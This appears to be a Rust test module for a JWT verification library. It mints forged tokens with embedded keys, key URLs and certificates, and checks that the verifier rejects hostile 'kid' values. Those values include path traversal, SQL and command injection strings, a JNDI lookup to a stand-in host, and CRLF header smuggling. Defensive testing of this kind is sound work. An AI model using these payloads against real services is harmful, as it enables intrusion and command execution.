//! Attacks with keys: keys inside a token, URLs of keys, and kids with special content.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use jwt_guard::jose::base64url;
use jwt_guard_testkit::mint::{Algorithm, SigningKey};
use p256::pkcs8::DecodePrivateKey;
use serde_json::{Value, json};

use super::{Row, World, row};

pub fn rows(world: &World) -> Vec<Row> {
    let mut rows = keys_in_tokens(world);
    rows.extend(kids(world));
    rows
}

/// With each such member, a token of the issuer passes, and a token of the attacker fails with any kid.
fn keys_in_tokens(world: &World) -> Vec<Row> {
    let (certified, certificate) = certified();
    let (stranger, url) = (&world.stranger, json!(world.strangers_keys));
    let members: [(&str, Value, &SigningKey, &SigningKey); 7] = [
        ("jwk", stranger.public_jwk(), stranger, &world.rsa),
        ("jku", url.clone(), stranger, &world.rsa),
        ("x5u", url.clone(), stranger, &world.rsa),
        ("x5c", json!([certificate]), &certified, &world.p256),
        ("x5t#S256", json!("AAAA"), &certified, &world.p256),
        ("keys", json!([stranger.public_jwk()]), stranger, &world.rsa),
        ("iss", url, stranger, &world.rsa),
    ];
    let mut rows = Vec::new();
    for (name, value, key, own) in members {
        let token = || world.token().header(name, value.clone());
        let rest = [
            ("signed by the issuer", "passed", token().sign(own)),
            ("under the stranger's kid", "unknown_kid", token().sign(key)),
            ("under the issuer's kid", "signature", token().header("kid", own.kid()).sign(key)),
            ("without a kid", "signature", token().without_header("kid").sign(key)),
        ];
        rows.extend(
            rest.map(|(label, expected, token)| row(format!("{name}: {label}"), expected, token.unwrap())),
        );
    }
    rows
}

/// A P-256 key with a self-signed certificate.
fn certified() -> (SigningKey, String) {
    let pair = rcgen::KeyPair::generate().unwrap();
    let certificate =
        rcgen::CertificateParams::new(["issuer.example".to_owned()]).unwrap().self_signed(&pair).unwrap();
    let secret = p256::ecdsa::SigningKey::from_pkcs8_der(&pair.serialize_der()).unwrap();
    let point = secret.verifying_key().to_sec1_point(false);
    let (x, y) = point.as_bytes()[1..].split_at(32);
    let jwk = json!({
        "kty": "EC", "crv": "P-256", "kid": "stranger",
        "x": base64url::encode(x), "y": base64url::encode(y), "d": base64url::encode(&secret.to_bytes()),
    });
    let key = SigningKey::from_private_jwk(&jwk.to_string()).unwrap();
    assert_eq!(key.algorithm(), Algorithm::Es256);
    (key, STANDARD.encode(certificate.der()))
}

/// A kid is only compared: it is not used as a file name or in a database query, and it does not end at NUL.
fn kids(world: &World) -> Vec<Row> {
    let unknown = [
        "",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'AAAA' --",
        "rsa' OR '1'='1",
        "key|/usr/bin/id",
        "$(id)",
        "${jndi:ldap://stranger.example/a}",
        "rsa\0",
        "\0rsa",
        "rsa ",
        "RSA",
        "r\u{0455}a",
        "rsa\r\nx-auth-sub: root",
        "https://stranger.example/jwks",
    ];
    let token = |kid: Value| world.token().header("kid", kid).sign(&world.rsa).unwrap();
    let mut rows: Vec<Row> =
        unknown.iter().map(|kid| row(format!("kid {kid:?}"), "unknown_kid", token(json!(kid)))).collect();
    rows.push(row("kid of 256 bytes", "unknown_kid", token(json!("k".repeat(256)))));
    for bytes in [257, 10_000] {
        rows.push(row(format!("kid of {bytes} bytes"), "malformed", token(json!("k".repeat(bytes)))));
    }
    let others = [json!(null), json!(0), json!(["rsa"]), json!({ "$ne": null }), json!(true)];
    rows.extend(others.map(|kid| row(format!("kid {kid}"), "malformed", token(kid))));
    rows
}
